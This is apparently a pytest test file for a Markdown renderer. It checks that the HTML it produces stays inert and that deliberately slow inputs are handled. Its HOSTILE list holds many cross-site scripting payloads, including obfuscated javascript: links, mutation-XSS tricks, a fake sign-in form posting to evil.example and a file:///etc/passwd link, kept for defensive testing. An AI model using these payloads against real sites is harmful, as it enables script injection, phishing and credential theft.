"""Rendered Markdown: nothing runs, nothing is fetched, nothing imitates our page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from registry.web.render import markdown
from tests import cpu, effort

_TAGS = {
    "a", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li",
    "ol", "p", "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title", "rel"}, "img": {"src", "alt", "loading"}, "ol": {"start"}, "td": {"align"}, "th": {"align"},
    "div": {"class", "tabindex", "role", "aria-label"}, "pre": {"tabindex"}, "span": {"class"}, "p": {"class"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}  # fmt: skip
_FILES = {"references/limits.md", "assets/port.png", "a b.png", "scripts/run.py"}


def link(path: str) -> str | None:
    return f"/files/{path}" if path in _FILES else None


def render(text: str, base: str = "") -> str:
    return markdown.render(text, link=link, base=base)


class _Inert(HTMLParser):
    """Parses HTML as a browser does and rejects everything but text and structure."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS, tag
        assert {name for name, _ in attrs} <= _ATTRIBUTES.get(tag, set()), (tag, attrs)
        given = dict(attrs)
        if tag == "img":
            assert str(given.get("src")).startswith("/files/")
        if "href" in given:
            self._link(str(given["href"]), given)
        if "id" in given:
            assert str(given["id"]).startswith("text-")

    def _link(self, href: str, given: dict[str, str | None]) -> None:
        self.links.append(href)
        if href.startswith(("/files/", "#text-")):
            return
        assert urlsplit(href).scheme.lower() in {"http", "https", "mailto"}, href
        assert given["rel"] == "noopener noreferrer nofollow"

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def inert(html: str) -> _Inert:
    reader = _Inert()
    reader.feed(html)
    reader.close()
    return reader


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script\n>alert(1)</script",
    "< script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img src='https://evil.example/x.png' srcset='//evil.example/2x.png 2x'>",
    "<img src=`x` onerror=alert(1)//",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](\\\\evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x](a.png" onerror="alert(1))',
    '![x](assets/port.png "t\\" onload=\\"alert(1)")',
    '![a" onerror="alert(1)](assets/port.png)',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "[x](view-source:https://a)",
    "[x](//evil.example)",
    "[x](///evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](/sign-out/)",
    "[x](/api/v1/projects)",
    "[x](../../../sign-out/)",
    "[x](..%2f..%2fsign-out/)",
    "[x](http://[::1)",
    "[x](?next=//evil)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: https://a.example "><script>alert(1)</script>"\n\n[x]',
    '[x](https://a.example "\\" onclick=\\"alert(1)")',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=jav&#x09;ascript:alert(1)>x</a>",
    "<a href='https://a.example' onclick='alert(1)' target=_blank>x</a>",
    "<a id=main name=main href=#main>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=//evil.example hx-get=/x>x</button>",
    "<div hx-get=/sign-out/ hx-trigger=load>x</div>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<applet code=x></applet>",
    "<video src=//evil.example poster=//evil.example></video>",
    "<audio src=//evil.example autoplay></audio>",
    "<table background=//evil.example><tr><td>x</td></tr></table>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "</main></body></html><script>alert(1)</script>",
    "</p></div></article><h1 id=main>x</h1>",
    "<dialog open><h2>Session expired</h2></dialog>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ { .x onclick=alert(1) }\nx\n~~~",
    "    <script>alert(1)</script>",
    "# main {#main}\n\n# toasts\n\n# constructor",
    '# <a id="main"></a>',
    "[TOC]\n\n# x\n\n## y",
    "| <script>alert(1)</script> | b |\n|---|---|\n| ![x](//evil) | [y](javascript:alert(1)) |",
    "*a **b* c** <b>_<i>",
    "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03 \x02amp\x03",
    "term\n:   <script>alert(1)</script>",
    "<mailto:a@b.example?body=<script>>",
    "<a@b.example>",
    "[x](mailto:a@b.example)",
    "\ud7ff\ufffe<script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str) -> None:
    inert(render(text))
    inert(render(f"- a\n\n    {text}\n\n> {text}\n\n# {text}"))
    inert(render(text, base="references/limits.md"))


@pytest.mark.slow
@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4).map("".join))
@settings(max_examples=effort.examples(60))
def test_combined_hostile_texts_are_inert(text: str) -> None:
    inert(render(text))


@given(st.text(st.sampled_from("<>[]()!\"'=:/\\#&;`*_-|\n\t ajscript\x00\x02\x03"), max_size=120))
@settings(max_examples=effort.examples(150))
def test_random_text_is_inert(text: str) -> None:
    inert(render(text))


@pytest.mark.parametrize(
    "text",
    ["[x](javascript:alert(1))", "[x](//evil.example)", "[x](/sign-out/)", "[x](../up.md)", "[x](gone.md)",
     "[x](data:text/html,x)", "[x](http://[::1)"],
)  # fmt: skip
def test_a_broken_link_keeps_its_text_only(text: str) -> None:
    seen = inert(render(text))
    assert not seen.links
    assert "x" in seen.words


def test_html_is_shown_as_text() -> None:
    assert "".join(inert(render("Say <b onclick=x>this</b> &amp; <!-- that -->")).words) == (
        "Say <b onclick=x>this</b> & <!-- that -->"
    )


def test_a_remote_image_is_replaced_by_its_description() -> None:
    assert render("![Port map](https://evil.example/x.png)") == (
        '<p><span class="not-shown">Image not shown: Port map</span></p>'
    )


def test_an_image_of_the_bundle_is_shown() -> None:
    assert '<img src="/files/assets/port.png" alt="Map" loading="lazy">' in render("![Map](assets/port.png)")
    assert 'src="/files/a b.png"' in render("![Map](a%20b.png)")


def test_relative_links_go_to_the_files_of_the_bundle() -> None:
    assert inert(render("[l](references/limits.md) [m](./references/limits.md#euro)")).links == [
        "/files/references/limits.md",
        "/files/references/limits.md#text-euro",
    ]


def test_links_of_a_nested_file_start_from_its_directory() -> None:
    text = "[l](limits.md) [s](../scripts/run.py) [out](../../scripts/run.py)"
    assert inert(render(text, base="references/other.md")).links == [
        "/files/references/limits.md",
        "/files/scripts/run.py",
    ]


def test_external_links_have_rel_attributes() -> None:
    assert 'href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow"' in render(
        "[x](https://a.example/?x=1&y=2)"
    )


def test_headings_are_lowered_and_have_prefixed_ids() -> None:
    html = render("# Main\n\n###### Deep\n\n# Main\n\n[up](#main)")
    assert '<h2 id="text-main">' in html
    assert '<h6 id="text-deep">' in html
    assert '<h2 id="text-main--2">' in html
    assert 'href="#text-main"' in html


def test_wide_parts_scroll_by_keyboard() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n    code")
    assert '<div class="table-wrap" tabindex="0" role="group" aria-label="Table"><table>' in html
    assert '<td align="right">' in html
    assert '<pre tabindex="0">' in html


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, "![a](" * 20_000, "[[" * 30_000 + "]]" * 30_000, "# a\n" * 20_000, "~~~a\n" * 20_000,
     "- - -\n" * 15_000, "- a\n* a\n" * 12_000, "a" * 500_000, "<![CDATA[" * 10_000,
     "|x" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "|\n" * 4_000,
     ("|x" * 50 + "\n" + "|-" * 50 + "\n" + "|\n" * 400 + "\n") * 10, "\\*" * 40_000, "***a" * 20_000, "*a*" * 20_000,
     "`a" * 30_000, "<a@b>" * 20_000, "*a[)\n" * 4_000, "a\n: b\n" * 100, "> " * 40 + "a"],
)  # fmt: skip
def test_a_text_made_to_be_slow_is_shown_unrendered(text: str) -> None:
    html = cpu.within(2, lambda: render(text))
    assert "so it is shown as it is." in html
    inert(html)


@pytest.mark.parametrize("text", [">" * 3_000 + "a", "\n".join(" " * 4 * i + "- a" for i in range(300))])
def test_deep_nesting_is_limited_and_no_word_is_lost(text: str) -> None:
    assert "".join(inert(render(text)).words).count("a") >= text.count("a")


def test_aligned_blocks_belong_to_their_list_item() -> None:
    steps = "5. Run the check:\n\n   ```sh\n   python3 check.py\n   ```\n\n   It prints a sentence.\n6. Hand it over.\n"
    html = render(steps)
    assert '<ol start="5">' in html
    assert html.count("<li>") == 2
    assert "<code>python3 check.py\n</code>" in html
    assert html.index("It prints") < html.index("</li>")


def test_a_list_needs_no_blank_line_before_it_and_two_spaces_below() -> None:
    html = render("Bring:\n- a bag\n  - the small one\n- a box")
    assert html.startswith("<p>Bring:</p>\n<ul>")
    assert html.count("<ul>") == 2


def test_headings_in_any_script_have_unique_ids() -> None:
    assert 'id="text-проверка-счёта"' in render("# Проверка `счёта`!")


@pytest.mark.slow
def test_a_long_ordinary_text_is_rendered() -> None:
    prose = "Run `check_it` on **each** file, see [the list](references/limits.md) and *note* A & B < C.\n"
    assert render(prose * 600).count("<code>") == 600
    part = "## Part\n\nText with [a link](references/limits.md).\n\n- [ ] one\n- two\n\n```\nlist[0](1)\n```\n\n"
    assert render(part * 200).count("<h3") == 200
